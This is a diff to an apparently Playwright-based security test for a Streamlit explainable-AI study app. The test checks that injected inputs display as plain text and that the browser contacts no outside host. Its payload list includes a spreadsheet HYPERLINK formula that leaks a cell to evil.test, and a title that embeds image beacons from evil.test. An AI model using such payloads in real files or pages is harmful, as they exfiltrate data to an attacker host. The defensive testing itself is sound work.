@@ -53,6 +53,7 @@ PAYLOADS = [
     '=HYPERLINK("http://evil.test/csv?leak="&A1,"Click")',
 ]
 LONG = "L" * 5000
+PAPERS = frozenset(m["url"] for m in xai_core.methods.describe())  # the method forms link their papers
 TITLE = "Study ![t](http://evil.test/title.png) <img src=http://evil.test/t2.png>"
 # Markdown containers must hold no image and no link (but Streamlit's own "#" anchors of headings): the text in
 # them is escaped.
@@ -152,11 +153,11 @@ def test_payloads_render_as_text_and_the_browser_requests_nothing_outside(
         error = sidebar(page).get_by_test_id("stAlertContentError")
         error.wait_for(timeout=MODEL_MS)
         assert name in shown(error)  # the file name, literally
-        assert_inert(page, origin)
+        assert_inert(page, origin, PAPERS)  # the landing page is Explain, whose method forms link their papers
         sidebar(page).get_by_role("link", name="Study design").click()
         page.get_by_text("New study").wait_for(timeout=MODEL_MS)
         settle(page)
-        assert_inert(page, origin, frozenset(m["url"] for m in xai_core.methods.describe()))  # the method forms' papers
+        assert_inert(page, origin, PAPERS)
         sidebar(page).get_by_role("link", name="Study results").click()
         warning = page.get_by_test_id("stAlertContentWarning").filter(has_text="Failed an attention check")
         warning.wait_for(timeout=MODEL_MS)
